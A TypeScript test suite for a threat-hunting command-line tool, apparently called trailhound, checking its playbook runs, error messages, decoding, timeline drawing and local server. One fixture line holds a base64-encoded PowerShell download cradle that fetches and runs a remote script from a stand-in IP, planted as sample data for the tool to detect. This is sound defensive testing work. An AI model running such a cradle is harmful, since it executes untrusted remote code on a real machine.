import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { documentSchema } from '../../lib/investigation/document.ts';
import { packageRoot } from '../../lib/paths.ts';

const HIDDEN = 'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.77/a.ps1")';

const PLAYBOOK = `
name: two-steps
description: Decode what ran.
inputs:
  host: { type: host, required: false }
steps:
  processes: { verb: query.run, with: { table: Processes_CL, where: { Computer: $inputs.host } } }
  decoded: { verb: decode.base64, from: processes, with: { column: CommandLine } }
  broken: { verb: decode.base64, from: processes, with: { column: Nothing } }
  picture: { verb: draw.timeline, from: processes, with: { groupBy: Computer } }
`;

let folder: string;

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'trailhound-cli-'));
  const encoded = Buffer.from(HIDDEN, 'utf16le').toString('base64');
  const rows = Array.from({ length: 20 }, (_, row) => ({
    TimeGenerated: `2026-03-04T05:00:${String(row).padStart(2, '0')}.1234567Z`,
    Computer: row % 2 === 0 ? 'ws-17.contoso.example' : 'ws-22.contoso.example',
    CommandLine: row === 4 ? `powershell -enc ${encoded}` : 'svchost.exe -k netsvcs',
  }));
  await writeFile(join(folder, 'Processes_CL.jsonl'), rows.map((row) => JSON.stringify(row)).join('\n'));
  await writeFile(join(folder, 'two-steps.yaml'), PLAYBOOK);
});
afterAll(() => rm(folder, { recursive: true, force: true }));

interface Ended {
  readonly code: number | null;
  readonly out: string;
  readonly err: string;
}

/** Starts the built program in the test's folder, as a user would. */
function start(...args: string[]) {
  const child = spawn(process.execPath, [join(packageRoot(), 'dist', 'cli.cjs'), ...args], { cwd: folder });
  let out = '';
  let err = '';
  child.stdout.on('data', (chunk) => {
    out += chunk;
  });
  child.stderr.on('data', (chunk) => {
    err += chunk;
  });
  const ended = new Promise<Ended>((resolve) => child.on('close', (code) => resolve({ code, out, err })));
  const said = (text: string) =>
    new Promise<string>((resolve) => {
      const look = () => {
        if (`${out}\n${err}`.includes(text)) resolve(out);
      };
      child.stdout.on('data', look);
      child.stderr.on('data', look);
      child.on('close', look);
    });
  return { child, ended, said };
}

const run = (...args: string[]) => start(...args).ended;

describe('trailhound run', { timeout: 90_000 }, () => {
  const args = ['run', 'two-steps.yaml', '--data', 'Processes_CL.jsonl', '--folder', 'state', '--id', 'case-17'];

  it('gives the document alone on standard output, a copy with --out, and files that are there', async () => {
    const { code, out, err } = await run(...args, '--json', '--out', 'copy.json');
    expect({ code, err }).toMatchObject({ code: 0 });
    const document = documentSchema.parse(JSON.parse(out));
    expect(JSON.parse(await readFile(join(folder, 'copy.json'), 'utf8'))).toEqual(document);
    expect(document).toMatchObject({
      id: 'case-17',
      playbook: expect.stringContaining('two-steps'),
      status: 'completed',
    });
    expect(document.steps.map(({ name, status }) => [name, status])).toEqual(
      expect.arrayContaining([
        ['processes', 'succeeded'],
        ['decoded', 'succeeded'],
        ['broken', 'failed'],
        ['picture', 'succeeded'],
      ]),
    );
    expect(document.steps.find(({ name }) => name === 'broken')!.error).toMatchObject({ code: 'usage' });
    expect(document.tables.find(({ name }) => name === 'processes')).toMatchObject({ rows: 20 });
    const paths = [
      ...document.tables.flatMap(({ parts }) => parts.map(({ path }) => path)),
      ...document.artifacts.map(({ path }) => path),
      ...Object.values(document.report!),
    ];
    for (const path of paths) {
      expect(path.startsWith(join(folder, 'state', 'export', 'investigations', 'case-17'))).toBe(true);
      expect((await stat(path)).size).toBeGreaterThan(0);
    }
    const report = await readFile(document.report!.html, 'utf8');
    expect(report).toContain('DownloadString');
    expect(report).not.toContain('case-17');
    expect(err).toContain('two-steps: decoded succeeded');
  });

  it('gives a finished document again, and refuses other inputs under its id', async () => {
    const again = await run(...args, '--json');
    expect(again.code).toBe(0);
    expect(JSON.parse(again.out)).toEqual(JSON.parse(await readFile(join(folder, 'copy.json'), 'utf8')));
    const other = await run(...args, '--input', 'host=ws-22.contoso.example');
    expect(other).toMatchObject({ code: 2, out: '' });
    expect(other.err).toContain('case-17 was started with other inputs');
  });

  it.each([
    [['run', 'nothing-like-it', '--data', 'Processes_CL.jsonl'], 'there is no playbook "nothing-like-it"'],
    [['run', 'two-steps.yaml', '--data', 'absent.jsonl'], 'there is no file or folder absent.jsonl'],
    [['run', 'two-steps.yaml', '--id', 'NO'], '--id is 3 to 63 of a-z'],
    [['run', 'two-steps.yaml', '--from', 'yesterday', '--to', '2026-03-04'], '--from is not a time: "yesterday"'],
    [['run', 'two-steps.yaml', '--from', '2026-03-04'], '--to is missing, and no data says what it could be'],
    [['run', 'two-steps.yaml', '--from', '2026-03-05', '--to', '2026-03-04'], 'before it starts'],
    [
      ['run', 'two-steps.yaml', '--data', 'Processes_CL.jsonl', '--folder', 'wrong', '--input', 'hst=x'],
      'no such input',
    ],
  ])('says what is wrong with %j', async (wrong, message) => {
    const { code, out, err } = await run(...wrong);
    expect({ code, out }).toEqual({ code: 2, out: '' });
    expect(err).toContain(message);
    expect(err).not.toMatch(/\n\s+at /);
  });

  it('takes the end of the data where only a start is given', async () => {
    const from = '2026-03-04T05:00:10Z';
    const { out } = await run(
      'run',
      'two-steps.yaml',
      '--data',
      'Processes_CL.jsonl',
      '--from',
      from,
      '--folder',
      'state',
      '--json',
    );
    const document = documentSchema.parse(JSON.parse(out));
    expect(document.timeRange).toMatchObject({
      start: '2026-03-04T05:00:10.0000000Z',
      end: '2026-03-04T05:00:19.1234568Z',
    });
    expect(document.tables.find(({ name }) => name === 'processes')).toMatchObject({ rows: 10 });
  });

  it('stops when the user says so, and goes on from there the next time', async () => {
    const stopped = start(...args, '--id', 'case-18');
    await stopped.said('processes succeeded');
    stopped.child.kill('SIGINT');
    expect(await stopped.ended).toMatchObject({ code: 130, out: '' });
    const resumed = await run(...args, '--id', 'case-18', '--json');
    expect(resumed.code).toBe(0);
    const document = documentSchema.parse(JSON.parse(resumed.out));
    const first = documentSchema.parse(JSON.parse(await readFile(join(folder, 'copy.json'), 'utf8')));
    const hashes = ({ tables }: typeof document) =>
      tables.map(({ name, parts }) => [name, parts.map(({ sha256 }) => sha256)]);
    expect(hashes(document)).toEqual(hashes(first));
    expect(document.findings).toEqual(first.findings);
  });
});

describe('trailhound tables', { timeout: 90_000 }, () => {
  it('shows what was recognised', async () => {
    const { code, out } = await run('tables', '--data', 'Processes_CL.jsonl', '--folder', 'state', '--json');
    expect(code).toBe(0);
    const document = JSON.parse(out);
    expect(document.tables).toMatchObject([
      {
        name: 'Processes_CL',
        rows: 20,
        timeRange: { start: '2026-03-04T05:00:00.1234567Z', end: '2026-03-04T05:00:19.1234567Z' },
        sources: [{ file: 'Processes_CL.jsonl', rows: 20 }],
      },
    ]);
    expect(document).toMatchObject({ rowsIn: 20, badCount: 0, badLines: [] });
  });
});

describe('trailhound verb', { timeout: 90_000 }, () => {
  it('runs a verb on a file, and writes the format that the ending names', async () => {
    const verb = ['verb', 'decode.base64', '--in', 'Processes_CL.jsonl', '--column', 'CommandLine'];
    expect(await run(...verb, '--out', 'decoded.csv')).toMatchObject({ code: 0, out: '' });
    expect(await readFile(join(folder, 'decoded.csv'), 'utf8')).toContain(
      'DownloadString(""http://203.0.113.77/a.ps1"")',
    );
    expect(await run(...verb, '--out', 'decoded.parquet')).toMatchObject({ code: 0 });
    const { out } = await run('verb', 'extract.iocs', '--in', 'decoded.parquet', '--column', 'DecodedText');
    const found = out
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(found.map(({ Observable }) => Observable)).toContain('http://203.0.113.77/a.ps1');
  });

  it('draws', async () => {
    const draw = ['verb', 'draw.timeline', '--in', 'Processes_CL.jsonl', '--param', 'groupBy=Computer'];
    expect(await run(...draw, '--out', 'timeline.png')).toMatchObject({ code: 0 });
    expect((await readFile(join(folder, 'timeline.png'))).subarray(1, 4).toString()).toBe('PNG');
    expect(await run(...draw, '--out', 'timeline.xlsx')).toMatchObject({ code: 2 });
  });
});

describe('trailhound serve', { timeout: 90_000 }, () => {
  it('prints its address when it is ready, answers, and stops when asked to', async () => {
    const serving = start('serve', '--port', '0', '--data', 'Processes_CL.jsonl', '--folder', 'served');
    const line = await serving.said('trailhound listens on');
    const address = /http:\/\/127\.0\.0\.1:\d+/.exec(line)![0];
    const response = await fetch(`${address}/api/catalog/verbs`);
    expect(response.status).toBe(200);
    serving.child.kill('SIGINT');
    expect((await serving.ended).code).toBe(0);
  });
});
